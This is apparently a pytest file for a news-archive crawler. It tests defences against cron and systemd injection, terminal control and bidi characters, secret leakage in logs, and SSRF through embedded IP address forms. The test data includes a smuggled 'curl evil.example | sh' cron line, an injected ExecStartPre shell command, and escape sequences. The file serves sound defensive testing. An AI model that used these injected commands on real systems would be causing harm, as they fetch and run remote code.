"""Smaller findings of issue 16: site names in cron lines and systemd units, control and bidi
characters in extracted text, secrets in the crawl log, remote control and telnet off, the SSRF
rules for embedded IPv4 forms and schemes. Counts go to test-artifacts/faults.md.
"""

from __future__ import annotations

import os
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from archive.discovery.netguard import allowed_scheme, forbidden_reason
from archive.errors import ScheduleError, SiteConfigError
from archive.extract import extract
from archive.redact import redact_settings, redact_url
from archive.schedule import lock_path, systemd_units
from archive.sites import Site, load_sites
from tests.faults.report import record
from tests.fixtures import run_cli
from tests.support.securityjail import Server, crawl_refused, jail_env, story

EVIL_NAMES = [
    "harbor\n* * * * * curl evil.example | sh",
    "harbor%",
    "a b",
    "../x",
    "x" * 65,
    ".",
    "",
]


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_unsafe_site_names_are_refused_when_sites_toml_loads(tmp_path: Path, name: str) -> None:
    sites = tmp_path / "sites.toml"
    escaped = name.replace("\n", "\\n")
    sites.write_text(
        f'[[site]]\nname = "{escaped}"\nurl = "https://harbor.example/"\nevery = "1h"\n'
    )
    with pytest.raises(SiteConfigError) as caught:
        load_sites(sites)
    message = str(caught.value)
    assert str(sites) in message, "the error names the file"
    assert "site #1" in message or "missing required key" in message, message
    if name:
        assert "A-Za-z0-9_.-" in message, "the error names the rule"


@pytest.mark.crawl  # runs the CLI in a subprocess
def test_crontab_and_units_cannot_be_injected(tmp_path: Path) -> None:
    started = time.monotonic()
    sites = tmp_path / "sites.toml"
    sites.write_text(
        '[[site]]\nname = "harbor"\nurl = "https://harbor.example/"\nevery = "1h"\n\n'
        '[[site]]\nname = "bay"\nurl = "https://bay.example/"\nevery = "0 *\\n* * *"\n'
    )
    data = tmp_path / "news%data"
    proc = run_cli("schedule", "--sites", str(sites), "--data", str(data), "--crontab")
    lines = [line for line in proc.stdout.splitlines() if line and not line.startswith("#")]
    record(
        "injection",
        "site name with a newline, `%` in paths, a newline in a cron `every`",
        injected=3,
        survived=3 * (len(lines) == 2 and all("news\\%data" in line for line in lines)),
        started=started,
    )
    assert len(lines) == 2, f"one cron line per site, nothing else: {lines}"
    assert all("news\\%data" in line for line in lines), "% is escaped for cron"
    assert "%" not in proc.stdout.replace("\\%", ""), proc.stdout
    with pytest.raises(ScheduleError, match="newline"):
        systemd_units(
            [Site(name="harbor", url="https://harbor.example/", every="1h")],
            ["newsarchive"],
            sites,
            Path("/srv/news\nExecStartPre=/bin/sh -c evil") / "data",
        )
    with pytest.raises(SiteConfigError):
        lock_path(tmp_path, "../../etc/x")


def test_two_names_never_share_a_lock_or_unit(tmp_path: Path) -> None:
    sites = tmp_path / "sites.toml"
    sites.write_text(
        '[[site]]\nname = "Harbor"\nurl = "https://harbor.example/"\n\n'
        '[[site]]\nname = "harbor"\nurl = "https://harbor2.example/"\n'
    )
    with pytest.raises(SiteConfigError, match="used twice"):
        load_sites(sites)
    assert lock_path(tmp_path, "state").name != "~state.lock", "a site cannot take the state lock"


UNSAFE = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\u202e\u2066\x9b\x00\x08\x7f"
PAGE = f"""<html><head><title>Harbor{UNSAFE} council votes</title>
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "Harbor council{UNSAFE} votes",
"author": {{"@type": "Person", "name": "Ada{UNSAFE} Lovelace"}}}}</script></head><body><article>
<h1>Harbor council{UNSAFE} votes</h1><p class="byline">By Ada{UNSAFE} Lovelace</p>
<figure><img src="/harbor.jpg"><figcaption>The quay at dawn{UNSAFE}.
<span class="credit">Photo: Grace{UNSAFE} Hopper</span></figcaption></figure>
{"".join(f"<p>Paragraph {n} of the report{UNSAFE} on the dredging budget, item {n * 3}.</p>" for n in range(12))}
</article></body></html>"""


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_extracted_text_has_no_control_or_bidi_characters() -> None:
    started = time.monotonic()
    article = extract(PAGE, "https://harbor.example/news/2024/05/01/harbor-council-votes.html")
    fields = article.to_dict()
    bad = {
        repr(ch)
        for text in _strings(fields)
        for ch in text
        if (unicodedata.category(ch) == "Cc" and ch not in "\n\t")
        or "\u202a" <= ch <= "\u202e"
        or "\u2066" <= ch <= "\u2069"
    }
    record(
        "injection",
        "ESC/OSC sequences, C1 controls and RLO/LRI in title, byline, caption, credit, body",
        injected=len(set(UNSAFE)),
        survived=len(set(UNSAFE)) - len(bad),
        started=started,
    )
    assert article.title.startswith("Harbor council"), article.title
    assert "Lovelace" in " ".join(article.authors), article.authors
    assert "dredging" in article.body
    assert any("dawn" in image.caption for image in article.images), article.images
    assert not bad, f"left in the article: {bad}"


SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI-secret-1",
    "NEWSARCHIVE_REDIS_KEY": "hmac-secret-2",
    "MY_API_TOKEN": "token-secret-3",
    "SMTP_PASSWORD": "password-secret-4",
    "NEWSARCHIVE_CONTACT": "https://someone:userinfo-secret-5@contact.example/",
}


@pytest.mark.crawl
def test_secrets_are_masked_in_the_crawl_log(tmp_path: Path) -> None:
    started = time.monotonic()
    web = Server()
    try:
        web.pages["/"] = (200, "text/html", story("Harbor council votes"))
        env = jail_env(tmp_path / "jail")
        data = tmp_path / "data"
        settings = [a for k, v in SECRETS.items() for a in ("-s", f"{k}={v}")]
        proc = crawl_refused(env, f"http://127.0.0.1:{web.port}/", "--data", str(data), *settings)
        log = (data / "logs" / "crawl.log").read_text(errors="replace") + proc.stderr
        bad = run_cli(
            "crawl",
            "https://x.example/",
            "--data",
            str(tmp_path / "d2"),
            "--blobs",
            "s3://AKIAEXAMPLE:s3-uri-secret-6@bucket/raw",
            check=False,
        )
    finally:
        web.close()
    leaked = [v for v in [*SECRETS.values(), "s3-uri-secret-6"] if v in log + bad.stderr]
    record(
        "secret",
        "credentials in -s settings (AWS_*, *KEY*, *TOKEN*, *PASSWORD*, URL userinfo) and an "
        "s3:// URI with userinfo",
        injected=len(SECRETS) + 1,
        survived=len(SECRETS) + 1 - len(leaked),
        started=started,
    )
    assert "Overridden settings" in log
    assert "'AWS_SECRET_ACCESS_KEY': '***'" in log, "the name stays, the value goes"
    assert "someone" not in log
    assert bad.returncode == 2, bad.stderr
    assert "AWS_ACCESS_KEY_ID" in bad.stderr, "the error says where credentials go"
    assert not leaked, f"printed: {leaked}"
    assert "Remote control HTTP server" not in log
    assert "Telnet console listening" not in log


def test_redaction_rules() -> None:
    assert redact_url("redis://:pw@queue.internal:6379/0") == "redis://***@queue.internal:6379/0"
    assert redact_url("s3://bucket/prefix") == "s3://bucket/prefix"
    masked = redact_settings(
        {"AWS_PROFILE": "x", "DOWNLOAD_DELAY": 1, "REDIS_URL": "redis://u:p@h/0"}
    )
    assert masked == {"AWS_PROFILE": "***", "DOWNLOAD_DELAY": 1, "REDIS_URL": "redis://***@h/0"}


def test_every_crawl_has_remote_control_telnet_and_odd_schemes_off() -> None:
    os.environ.setdefault("SCRAPY_SETTINGS_MODULE", "crawler.settings")
    from scrapy.utils.project import get_project_settings

    from crawler.spiders.news import NewsSpider

    settings = get_project_settings()
    NewsSpider.update_settings(settings)
    assert settings.getbool("REMOTE_CONTROL_ENABLED") is False
    assert settings.getbool("TELNETCONSOLE_ENABLED") is False
    handlers = settings.getdict("DOWNLOAD_HANDLERS")
    assert all(handlers.get(scheme, "") is None for scheme in ("file", "s3", "ftp", "data"))
    assert settings.get("TWISTED_DNS_RESOLVER") == "crawler.resolver.GuardedResolver"
    assert settings.getint("MEMUSAGE_LIMIT_MB") > 0


@pytest.mark.parametrize(
    "address",
    [
        "2002:7f00:1::1",  # 6to4 of 127.0.0.1
        "2002:a00:1::1",  # 6to4 of 10.0.0.1
        "2001:0:4136:e378:8000:63bf:80ff:fffe",  # Teredo, client 127.0.0.1
        "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254
        "::ffff:192.168.0.1",
        "192.0.2.1",  # documentation: not global
        "198.18.0.1",  # benchmarking
        "fd00:ec2::254",
    ],
)
def test_embedded_and_non_global_addresses_are_refused(address: str) -> None:
    assert forbidden_reason(address), f"{address} must be refused"


def test_only_http_and_https() -> None:
    assert allowed_scheme("http")
    assert allowed_scheme("HTTPS")
    assert not any(allowed_scheme(s) for s in ("file", "s3", "ftp", "data", "gopher", ""))


def test_resolver_checks_every_answer_in_process() -> None:
    """The resolver's rule, as the crawl uses it: a name's answers are checked each time."""
    from crawler.resolver import ForbiddenAddress, GuardPolicy, check_answer

    policy = GuardPolicy(private_hosts={"intranet.example"})
    answers = iter(["93.184.216.34", "127.0.0.1"])  # a rebinding name server
    assert check_answer("rebind.example", next(answers), policy) == "93.184.216.34"
    with pytest.raises(ForbiddenAddress):
        check_answer("rebind.example", next(answers), policy)
    assert policy.refused == {"rebind.example"}
    assert check_answer("intranet.example.", "10.0.0.5", policy) == "10.0.0.5"
    assert check_answer("127.0.0.1", "127.0.0.1", policy) == "127.0.0.1", "literals: middleware"
    with pytest.raises(ForbiddenAddress):
        check_answer("metadata.google.internal", "93.184.216.34", policy)
